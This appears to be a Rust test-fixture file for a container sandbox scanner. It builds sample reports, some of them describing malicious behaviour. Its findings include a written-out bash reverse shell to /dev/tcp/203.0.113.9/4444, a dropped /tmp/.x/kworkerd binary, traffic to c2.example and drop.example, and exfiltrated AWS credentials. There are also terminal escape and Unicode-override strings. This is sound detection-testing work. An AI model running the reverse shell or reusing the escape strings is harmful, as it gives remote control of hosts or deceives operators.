//! Reports for tests: one of a calm run, one of a run in which much was found and every name is
//! hostile.

use super::assemble::{Material, assemble};
use super::convert::{coverage, facts};
use super::document::*;
use super::log::Header;
use crate::verdict::{Exception, Policy, decide, parse_exceptions, shipped};

pub const DIGEST: &str = "sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef";

pub fn header() -> Header {
    Header {
        id: "019ab0e6-7b5c-7000-8000-000000000001".into(),
        created: "2026-11-25T22:14:44Z".into(),
        request: Request { id: "req-1".into(), requester: Some("ci".into()), ..Request::default() },
        previous: None,
        subject: subject(),
        inputs: Inputs {
            policy: named("default"),
            profile: "default".into(),
            rules: vec![named("rules")],
            attack_version: "19".into(),
            ..Inputs::default()
        },
        environment: Environment {
            lazaret: "0.1.0".into(),
            kernel: "6.18.2".into(),
            tier: "B".into(),
            isolation: "namespaces".into(),
        },
    }
}

fn subject() -> Subject {
    let layer = |created_by: &str| Layer {
        digest: DIGEST.into(),
        diff_id: DIGEST.into(),
        created_by: Some(created_by.into()),
    };
    Subject {
        reference: "oci:images/redis:7.0".into(),
        manifest_digest: Some(DIGEST.into()),
        config_digest: DIGEST.replace("5f", "6f"),
        platform: "linux/amd64".into(),
        layers: vec![layer("debootstrap"), layer("apt-get install redis-server")],
        unchanged: Some(Unchanged { before: DIGEST.into(), after: DIGEST.into(), same: true }),
    }
}

pub fn named(name: &str) -> Named {
    Named { name: name.into(), digest: DIGEST.into() }
}

fn run() -> Run {
    let phase = |name: &str, seconds| PhaseTime { name: name.into(), seconds };
    Run {
        phases: vec![phase("start", 5.0), phase("idle", 54.5), phase("stop", 0.52)],
        exit: Exit { code: None, signal: Some("SIGTERM".into()), reason: ExitReason::Deadline },
        entrypoint_ran: true,
        events: EventCount { seen: 12345, ..EventCount::default() },
        recording: Recording::Complete,
        visibility: Some(Visibility { explained: 41, all: 41 }),
        captured: Some(Captured { files: 1, bytes: 1 << 20, omitted: 0, missed: 0 }),
        ..Run::default()
    }
}

fn seen() -> Vec<Coverage> {
    let full =
        |family: &str| Coverage { family: family.into(), state: CoverageState::Full, reason: String::new() };
    let mut known: Vec<Coverage> = ["process", "file", "network", "sandbox"].map(full).into();
    known.push(Coverage {
        family: "kernel".into(),
        state: CoverageState::Partial,
        reason: "refused calls only".into(),
    });
    coverage(&known)
}

/// Puts a report together with the default policy.
fn report(subject: Subject, run: Run, findings: Vec<Finding>, exceptions: &[Exception]) -> Report {
    let header = header();
    let coverage = seen();
    let case = facts(&header.created, &subject, &run, &coverage, &findings, 0).unwrap();
    let policy = Policy::parse("default", shipped("default").unwrap().as_bytes()).unwrap();
    let verdict = decide(&policy, exceptions, &case, "2026-11-26T00:00:00Z".parse().unwrap());
    assemble(Material {
        header: &header,
        subject,
        run,
        coverage,
        findings,
        findings_omitted: 0,
        behaviour: Behaviour::default(),
        verdicts: vec![(named("default"), verdict)],
    })
    .unwrap()
}

pub fn calm() -> Report {
    report(subject(), run(), Vec::new(), &[])
}

pub fn blind() -> Report {
    let mut run = run();
    run.events.lost = 17;
    run.events.cut = 3;
    run.held_seconds = 1.25;
    run.skipped_seconds = 3600.0;
    run.limits_hit = vec!["pids".into(), "stdout".into()];
    run.exit = Exit { code: Some(137), signal: None, reason: ExitReason::Limit };
    report(subject(), run, Vec::new(), &[])
}

pub fn malicious() -> Report {
    let mut report = report(subject(), run(), vec![reverse_shell(), dropped(), touched_key()], &[]);
    (report.behaviour.network, report.behaviour.baits) = (network(""), vec![bait("")]);
    report
}

pub fn excepted() -> Report {
    let text = "exceptions:\n  - scope: { rule: dropped-program }\n    reason: the image is a miner, for research\n    author: keeper@example\n    expires: 2027-01-31\n  - scope: { rule: dropped-program }\n    reason: only for the trial\n    author: keeper@example\n    expires: 2026-01-31\n";
    let exceptions = parse_exceptions("exceptions.yaml", text.as_bytes()).unwrap();
    report(subject(), run(), vec![dropped()], &exceptions)
}

/// A run in which the image chose every text, to steer the terminal or to fill it.
pub fn hostile() -> Report {
    let attack = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}\u{9b}1m\r\nPASS \u{200b}\u{fffd}ff".to_owned();
    let mut finding = reverse_shell();
    finding.title = attack.clone();
    finding.meaning = format!("{attack} {}", "\u{4e2d}".repeat(300));
    finding.evidence[0].text = format!("opened /{}", "a".repeat(5000));
    finding.attack[0].name = "n".repeat(200);
    let process = finding.process.as_mut().unwrap();
    process.exe = format!("/{attack}");
    let ancestor = |index| Ancestor { exe: format!("/bin/{index}{attack}"), ..Ancestor::default() };
    process.lineage = (0..30).map(ancestor).collect();
    let mut subject = subject();
    subject.reference = format!("oci:{attack}{}", "/x".repeat(200));
    subject.platform = attack.clone();
    let mut run = run();
    run.limits_hit = vec![attack.clone()];
    let mild = Finding { level: Level::Informational, ..finding.clone() };
    let mut report = report(subject, run, vec![finding, mild], &[]);
    report.findings_omitted = 7;
    let mut network = network(&attack);
    network.flows = vec![network.flows.remove(0); 9];
    network.flows_omitted = 3;
    (report.behaviour.network, report.behaviour.baits) = (network, vec![bait(&attack)]);
    report
}

/// What the image of [`malicious`] said to others; `said` is a text that it chose.
fn network(said: &str) -> Network {
    let dns = DnsQuestion {
        name: format!("{said}c2.example"),
        kind: "TXT".into(),
        carriers: vec!["udp".into()],
        exe: "/tmp/.x/kworkerd".into(),
        count: 3,
        code: Some(0),
        addresses: Vec::new(),
        first_seen: 2.1,
    };
    let flow = Flow {
        protocol: "tcp".into(),
        remote: "52.1.2.3:443".into(),
        address: Some("52.1.2.3".into()),
        port: Some(443),
        name: Some(format!("{said}drop.example")),
        service: Some("https".into()),
        exe: "/tmp/.x/kworkerd".into(),
        count: 2,
        sent: 120_034,
        received: 912,
        first: Some(format!("POST /{said}")),
        first_seen: 2.2,
        ..Flow::default()
    };
    let request = HttpRequest {
        method: "POST".into(),
        secure: true,
        host: format!("{said}drop.example"),
        target: format!("/upload?id={said}7"),
        status: 200,
        service: "web".into(),
        user_agent: Some(said.into()),
        body_size: 119_000,
        body: Some(said.into()),
        exe: "/tmp/.x/kworkerd".into(),
        count: 2,
        first_seen: 2.3,
    };
    Network { dns: vec![dns], flows: vec![flow], http: vec![request], ..Network::default() }
}

fn bait(said: &str) -> BaitUse {
    BaitUse {
        bait: "aws-credentials".into(),
        what: BaitDeed::CarriedOff,
        field: Some("secret_access_key".into()),
        encoding: Some("base64".into()),
        place: "https".into(),
        remote: Some(format!("{said}drop.example:443")),
        exe: format!("/tmp/.x/{said}kworkerd"),
        count: 1,
        event: 61,
        first_seen: 2.3,
    }
}

fn technique(id: &str, name: &str, tactic: &str) -> Technique {
    Technique { technique: id.into(), name: name.into(), tactics: vec![tactic.into()] }
}

fn process(exe: &str, lineage: &[&str]) -> Process {
    let ancestor = |exe: &&str| Ancestor { exe: (*exe).into(), argv: vec![(*exe).into()], argv_omitted: 0 };
    Process {
        exe: exe.into(),
        argv: vec![exe.into()],
        argv_omitted: 0,
        lineage: lineage.iter().map(ancestor).collect(),
    }
}

fn origin(kind: OriginKind, layer: Option<u16>) -> Origin {
    Origin { kind: Some(kind), layer, digest: None }
}

fn evidence(event: u64, text: &str) -> Evidence {
    Evidence { event, text: text.into() }
}

fn reverse_shell() -> Finding {
    let mut process = process("/usr/bin/bash", &["/usr/bin/redis-server", "/bin/sh", "/sbin/init"]);
    process.argv = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"].map(str::to_owned).into();
    Finding {
        id: "a1".repeat(32),
        rule: "reverse-shell".into(),
        title: "Reverse shell".into(),
        level: Level::Critical,
        confidence: Confidence::High,
        class: Class::Malicious,
        origin: origin(OriginKind::Layer, Some(1)),
        attack: vec![technique("T1059.004", "Bash", "execution")],
        count: 1,
        first_seen: 1.234,
        process: Some(process),
        evidence: vec![evidence(
            42,
            "/usr/bin/bash copied a tcp socket to 203.0.113.9:4444 onto standard input",
        )],
        meaning:
            "A shell's input and output lead to a machine elsewhere: whoever sits there can type commands."
                .into(),
        advice: "Keep the image away from every network and look for the address in your logs.".into(),
    }
}

fn dropped() -> Finding {
    Finding {
        id: "b2".repeat(32),
        rule: "dropped-program".into(),
        title: "A program was written during the run and then run".into(),
        level: Level::High,
        confidence: Confidence::Medium,
        class: Class::Malicious,
        origin: origin(OriginKind::Written, None),
        attack: vec![
            technique("T1105", "Ingress Tool Transfer", "command-and-control"),
            technique("T1036.005", "Match Legitimate Resource Name or Location", "stealth"),
        ],
        count: 17,
        first_seen: 2.0,
        process: Some(process("/tmp/.x/kworkerd", &["/bin/sh"; 9])),
        evidence: vec![
            evidence(50, "/bin/sh created /tmp/.x/kworkerd"),
            evidence(51, "/tmp/.x/kworkerd began to run, asked for as ./kworkerd"),
        ],
        meaning: "What runs here is not what was scanned.".into(),
        advice: "Read the file in the run's directory.".into(),
    }
}

fn touched_key() -> Finding {
    Finding {
        id: "c3".repeat(32),
        rule: "ssh-key-read".into(),
        title: "A private SSH key was read".into(),
        level: Level::Informational,
        confidence: Confidence::Low,
        class: Class::Risky,
        origin: Origin::default(),
        attack: vec![technique("T1552.004", "Private Keys", "credential-access")],
        count: 1,
        first_seen: 0.5,
        process: None,
        evidence: vec![evidence(9, "the sandbox noticed that /root/.ssh/id_ed25519 was opened for reading")],
        meaning: "Few programs need one.".into(),
        advice: "Ask why.".into(),
    }
}
